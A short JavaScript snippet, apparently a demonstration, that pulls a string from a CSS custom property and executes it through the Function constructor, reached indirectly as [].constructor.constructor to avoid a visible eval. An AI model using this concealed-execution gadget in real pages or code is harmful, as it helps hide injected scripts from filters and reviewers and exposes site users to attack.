// tricky: code in the name of a style, run by a constructor
const code = getComputedStyle(document.body).getPropertyValue('--x');
[].constructor.constructor(code)();
